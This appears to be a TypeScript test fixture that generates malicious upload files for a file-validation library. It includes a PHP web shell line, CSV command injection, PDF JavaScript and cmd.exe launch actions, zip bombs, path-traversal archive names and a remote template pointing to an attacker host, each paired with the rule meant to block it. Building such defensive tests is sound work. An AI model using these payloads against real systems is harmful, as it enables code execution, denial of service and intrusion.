// Files that are not what they say, each with the rule that stops it. Small on the wire: what is hostile is what they would become.

import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';

import { docx, jpeg, objectStream, openDocument, pdf, png, xlsx, zip, type Zipped } from './documents.js';

export interface Hostile {
  readonly name: string;
  readonly fileName: string;
  readonly bytes: () => Buffer | Promise<Buffer>;
  readonly rule: string;
}

interface RawEntry {
  readonly name: string;
  readonly data: Buffer;
  /** 8 (deflate) unless given. */
  readonly method?: number;
  readonly flags?: number;
  /** What the directory says, when it lies. */
  readonly declared?: number;
  readonly localName?: string;
  /** Points to the bytes of the first entry instead of its own. */
  readonly overlaps?: boolean;
}

/** An archive byte by byte: writers of archives refuse to write these. */
function rawZip(entries: readonly RawEntry[]): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, data, method = 8, flags = 0, declared, localName = name, overlaps = false } of entries) {
    const packed = method === 8 ? deflateRawSync(data) : data;
    const size = declared ?? data.length;
    const local = Buffer.alloc(30);
    local.write('PK\u0003\u0004', 'latin1');
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(Buffer.byteLength(localName), 26);
    const central = Buffer.alloc(46);
    central.write('PK\u0001\u0002', 'latin1');
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(Buffer.byteLength(name), 28);
    central.writeUInt32LE(overlaps ? 0 : offset, 42);
    directory.push(central, Buffer.from(name));
    if (overlaps) continue;
    locals.push(local, Buffer.from(localName), packed);
    offset += 30 + Buffer.byteLength(localName) + packed.length;
  }
  const listed = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(listed.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, listed, end]);
}

const PARTS: readonly RawEntry[] = [
  { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
  { name: 'word/document.xml', data: Buffer.from('<w:document/>') },
];
const rawDocx = (...more: RawEntry[]): Buffer => rawZip([...PARTS, ...more]);
const part = (name: string, bytes: Buffer | string = 'x'): Zipped => ({ name, bytes });
const zeros = (mebibytes: number): Buffer => Buffer.alloc(mebibytes * 1024 * 1024);
const many = (count: number): RawEntry[] =>
  Array.from({ length: count }, (_, index) => ({ name: `word/${index}.xml`, data: Buffer.alloc(0), method: 0 }));
const script = '<script>alert(1)</script>';
const gif = Buffer.from('GIF89a/*\u0001\u0000*/=1;alert(1)', 'latin1');
const program = Buffer.concat([Buffer.from('MZ\u0090\u0000\u0003', 'latin1'), Buffer.alloc(300), Buffer.from('PE\0\0')]);
const action = (name: string): Buffer => pdf(`5 0 obj\n<< /S ${name} /JS (app.alert\\(1\\)) >>\nendobj`);
const relation = (type: string): string =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>`;

export const HOSTILE: readonly Hostile[] = [
  // Not of the type that the extension says
  { name: 'a page as PDF', fileName: 'a.pdf', bytes: () => Buffer.from(`<html>${script}</html>`), rule: 'fileTypeMatches' },
  { name: 'an SVG as PNG', fileName: 'a.png', bytes: () => Buffer.from(`<svg onload="alert(1)"/>`), rule: 'fileTypeMatches' },
  { name: 'a program as PDF', fileName: 'a.pdf', bytes: () => program, rule: 'fileTypeMatches' },
  { name: 'a program as text', fileName: 'a.txt', bytes: () => program, rule: 'fileTypeMatches' },
  { name: 'a PDF as document', fileName: 'a.docx', bytes: () => pdf(), rule: 'fileTypeMatches' },
  { name: 'an archive as document', fileName: 'a.docx', bytes: () => zip([part('a.txt')]), rule: 'fileTypeMatches' },
  { name: 'an archive as PDF', fileName: 'a.pdf', bytes: () => zip([part('a.txt')]), rule: 'fileTypeMatches' },
  { name: 'a sheet as document', fileName: 'a.docx', bytes: () => xlsx(), rule: 'fileTypeMatches' },
  { name: 'a document as OpenDocument', fileName: 'a.odt', bytes: () => docx(), rule: 'fileTypeMatches' },
  { name: 'an OpenDocument text as sheet', fileName: 'a.ods', bytes: () => openDocument('text'), rule: 'fileTypeMatches' },
  { name: 'a PNG as JPEG', fileName: 'a.jpg', bytes: () => png(), rule: 'fileTypeMatches' },
  { name: 'GIF and JavaScript as PNG', fileName: 'a.png', bytes: () => gif, rule: 'fileTypeMatches' },
  { name: 'GIF and JavaScript as text', fileName: 'a.txt', bytes: () => gif, rule: 'fileTypeMatches' },
  {
    name: 'a PDF behind a script',
    fileName: 'a.pdf',
    bytes: () => Buffer.concat([Buffer.from(script), pdf()]),
    rule: 'fileTypeMatches',
  },
  {
    name: 'a program before a document',
    fileName: 'a.docx',
    bytes: async () => Buffer.concat([program, await docx()]),
    rule: 'fileTypeMatches',
  },
  // Two things at once
  { name: 'PDF and HTML', fileName: 'a.pdf', bytes: () => pdf(`% <html><body>`), rule: 'fileNotTwoThings' },
  {
    name: 'a script in a PDF',
    fileName: 'a.pdf',
    bytes: () => pdf(`% ${'x'.repeat(70_000)} <ScRiPt >1`),
    rule: 'fileNotTwoThings',
  },
  {
    name: 'a page after a PDF',
    fileName: 'a.pdf',
    bytes: () => Buffer.concat([pdf(), Buffer.from(`<body onload=alert(1)>`)]),
    rule: 'fileNotTwoThings',
  },
  {
    name: 'an archive after a PDF',
    fileName: 'a.pdf',
    bytes: async () => Buffer.concat([pdf(), await zip([part('a.exe')])]),
    rule: 'fileNotTwoThings',
  },
  {
    name: 'an archive after a PNG',
    fileName: 'a.png',
    bytes: async () => Buffer.concat([png(), await zip([part('a.exe')])]),
    rule: 'fileNotTwoThings',
  },
  {
    name: 'an archive inside a JPEG',
    fileName: 'a.jpg',
    bytes: async () => jpeg(await zip([part('a.jar')])),
    rule: 'fileNotTwoThings',
  },
  { name: 'a script in a JPEG', fileName: 'a.jpg', bytes: () => jpeg(Buffer.from(script)), rule: 'fileNotTwoThings' },
  {
    name: 'PHP after a PNG',
    fileName: 'a.png',
    bytes: () => Buffer.concat([png(), Buffer.from('<?php system($_GET[0]);')]),
    rule: 'fileNotTwoThings',
  },
  { name: 'an archive with a comment', fileName: 'a.docx', bytes: () => commented(), rule: 'fileNotTwoThings' },
  // Texts
  { name: 'PHP as text', fileName: 'a.txt', bytes: () => Buffer.from('<?php system($_GET[0]); ?>'), rule: 'textPlain' },
  { name: 'a page in a table', fileName: 'a.csv', bytes: () => Buffer.from(`a;b\n1;${script}\n`), rule: 'textPlain' },
  { name: 'UTF-16', fileName: 'a.csv', bytes: () => Buffer.from('\ufeffa;b\n', 'utf16le'), rule: 'textPlain' },
  { name: 'a formula', fileName: 'a.csv', bytes: () => Buffer.from('a;=HYPERLINK("http://x")\n'), rule: 'tableWithoutFormulas' },
  { name: 'a command', fileName: 'a.csv', bytes: () => Buffer.from("a;+cmd|' /C calc'!A0\n"), rule: 'tableWithoutFormulas' },
  // Cut or oversized
  { name: 'half a PDF', fileName: 'a.pdf', bytes: () => pdf('', 9_000).subarray(0, 5_000), rule: 'fileWhole' },
  { name: 'half a PNG', fileName: 'a.png', bytes: () => png().subarray(0, 50), rule: 'fileWhole' },
  { name: 'half a JPEG', fileName: 'a.jpg', bytes: () => jpeg(Buffer.alloc(900)).subarray(0, 500), rule: 'fileWhole' },
  { name: 'a PNG of four billion pixels', fileName: 'a.png', bytes: () => png(65_535, 65_535), rule: 'archiveWithinLimits' },
  // PDFs that act
  { name: 'JavaScript', fileName: 'a.pdf', bytes: () => action('/JavaScript'), rule: 'pdfPassive' },
  { name: 'JavaScript spelled in hexadecimal', fileName: 'a.pdf', bytes: () => action('/J#61v#61#53cript'), rule: 'pdfPassive' },
  { name: 'a command to launch', fileName: 'a.pdf', bytes: () => action('/Launch /F (cmd.exe)'), rule: 'pdfPassive' },
  {
    name: 'an attached file',
    fileName: 'a.pdf',
    bytes: () => pdf('5 0 obj\n<< /Type /EmbeddedFile >>\nendobj'),
    rule: 'pdfPassive',
  },
  { name: 'rich media', fileName: 'a.pdf', bytes: () => pdf('5 0 obj\n<< /Subtype /RichMedia >>\nendobj'), rule: 'pdfPassive' },
  { name: 'JavaScript across two chunks', fileName: 'a.pdf', bytes: () => acrossChunks(), rule: 'pdfPassive' },
  {
    name: 'compressed JavaScript',
    fileName: 'a.pdf',
    bytes: () => pdf(objectStream('12 0 << /S /JavaScript >>')),
    rule: 'pdfPassive',
  },
  {
    name: 'compressed JavaScript, its stream spelled in hexadecimal',
    fileName: 'a.pdf',
    bytes: () => pdf(objectStream('12 0 << /S /JavaScript >>', '/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode')),
    rule: 'pdfPassive',
  },
  {
    name: 'objects packed twice',
    fileName: 'a.pdf',
    bytes: () => pdf(objectStream('x', '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]')),
    rule: 'pdfReadable',
  },
  {
    name: 'objects that cannot be unpacked',
    fileName: 'a.pdf',
    bytes: () =>
      pdf('9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\nnot deflate at all\nendstream\nendobj'),
    rule: 'pdfReadable',
  },
  { name: 'a PDF bomb', fileName: 'a.pdf', bytes: () => pdfBomb(), rule: 'archiveWithinLimits' },
  // Archives that become more than they are
  {
    name: 'a bomb, a thousand to one',
    fileName: 'a.docx',
    bytes: () => rawDocx({ name: 'word/a.xml', data: zeros(20) }),
    rule: 'archiveWithinLimits',
  },
  {
    name: 'a bomb of many entries',
    fileName: 'a.xlsx',
    bytes: () => rawDocx(...Array.from({ length: 900 }, (_, index) => ({ name: `xl/${index}`, data: Buffer.alloc(120_000) }))),
    rule: 'archiveWithinLimits',
  },
  {
    name: 'a bomb whose directory lies',
    fileName: 'a.docx',
    bytes: () => rawDocx({ name: 'word/a.xml', data: zeros(150), declared: 1_000 }),
    rule: 'archiveHonest',
  },
  {
    name: 'a bomb that says to be nothing',
    fileName: 'a.docx',
    bytes: () => rawDocx({ name: 'word/a.xml', data: zeros(150), declared: 0 }),
    rule: 'archiveHonest',
  },
  {
    name: 'a bomb within a document',
    fileName: 'a.docx',
    bytes: () => docx({ name: 'word/embeddings/a.xlsx', bytes: rawDocx({ name: 'a', data: zeros(20) }), compress: false }),
    rule: 'archiveWithinLimits',
  },
  { name: '1,001 entries', fileName: 'a.docx', bytes: () => rawDocx(...many(999)), rule: 'archiveWithinLimits' },
  { name: '65,535 entries', fileName: 'a.docx', bytes: () => rawDocx(...many(65_533)), rule: 'archiveWithinLimits' },
  {
    name: 'entries on top of one another',
    fileName: 'a.docx',
    bytes: () =>
      rawZip([
        { name: 'word/a.xml', data: zeros(1) },
        ...Array.from({ length: 150 }, (_, index) => ({ name: `word/${index}.xml`, data: zeros(1), overlaps: true })),
      ]),
    rule: 'archiveWithinLimits',
  },
  {
    name: 'an archive in an archive in an archive',
    fileName: 'a.docx',
    bytes: async () => docx(part('a.xlsx', await xlsx(part('b.docx', await docx())))),
    rule: 'archiveNotNested',
  },
  { name: 'a gzip within', fileName: 'a.docx', bytes: () => docx(part('word/a.bin', gzipSync('x'))), rule: 'archiveNotNested' },
  {
    name: 'a rar within',
    fileName: 'a.docx',
    bytes: () => docx(part('word/a.bin', 'Rar!\u001a\u0007')),
    rule: 'archiveNotNested',
  },
  // Archives that lie or act
  {
    name: 'a name that climbs',
    fileName: 'a.docx',
    bytes: () => rawDocx({ name: '../../etc/passwd', data: zeros(0) }),
    rule: 'archiveHonest',
  },
  {
    name: 'an absolute name',
    fileName: 'a.docx',
    bytes: () => rawDocx({ name: '/etc/passwd', data: zeros(0) }),
    rule: 'archiveHonest',
  },
  {
    name: 'a name with backslashes',
    fileName: 'a.docx',
    bytes: () => rawDocx({ name: '..\\..\\a', data: zeros(0) }),
    rule: 'archiveHonest',
  },
  {
    name: 'two names for one entry',
    fileName: 'a.docx',
    bytes: () => rawDocx({ name: 'word/a.xml', localName: 'word/b.xml', data: zeros(0) }),
    rule: 'archiveHonest',
  },
  {
    name: 'the same name twice',
    fileName: 'a.docx',
    bytes: () => rawDocx({ name: 'WORD/document.xml', data: zeros(0) }),
    rule: 'archiveHonest',
  },
  {
    name: 'an encrypted entry',
    fileName: 'a.docx',
    bytes: () => rawDocx({ name: 'a.xml', data: zeros(0), flags: 1 }),
    rule: 'archiveHonest',
  },
  {
    name: 'an unknown way of packing',
    fileName: 'a.docx',
    bytes: () => rawDocx({ name: 'a.xml', data: zeros(0), method: 12 }),
    rule: 'archiveHonest',
  },
  { name: 'half a document', fileName: 'a.docx', bytes: async () => (await docx()).subarray(0, 100), rule: 'archiveHonest' },
  { name: 'macros', fileName: 'a.docx', bytes: () => docx(part('word/vbaProject.bin')), rule: 'documentPassive' },
  {
    name: 'macros of an OpenDocument',
    fileName: 'a.odt',
    bytes: () => openDocument('text', part('Basic/Standard/a.xml')),
    rule: 'documentPassive',
  },
  {
    name: 'a packaged program',
    fileName: 'a.docx',
    bytes: () => docx(part('word/embeddings/oleObject1.bin')),
    rule: 'documentPassive',
  },
  {
    name: 'a program named as an image',
    fileName: 'a.docx',
    bytes: () => docx(part('word/media/a.png', program)),
    rule: 'documentPassive',
  },
  {
    name: 'a remote template',
    fileName: 'a.docx',
    bytes: () => docx(part('word/_rels/settings.xml.rels', relation('attachedTemplate'))),
    rule: 'documentPassive',
  },
];

const commented = (): Promise<Buffer> =>
  zip([part('[Content_Types].xml', '<Types/>'), part('word/document.xml', '<w:document/>')], script);

/** The name begins in one chunk of 64 KiB and ends in the next. */
function acrossChunks(): Buffer {
  const before = pdf('@').indexOf('@');
  const filler = `%${'x'.repeat(65_536 - before - 7)}\n`;
  return pdf(`${filler}/JavaScript`);
}

/** An object stream of 150 MiB in 150 KiB. */
function pdfBomb(): Buffer {
  const data = deflateSync(zeros(150)).toString('latin1');
  return pdf(`9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n${data}\nendstream\nendobj`);
}
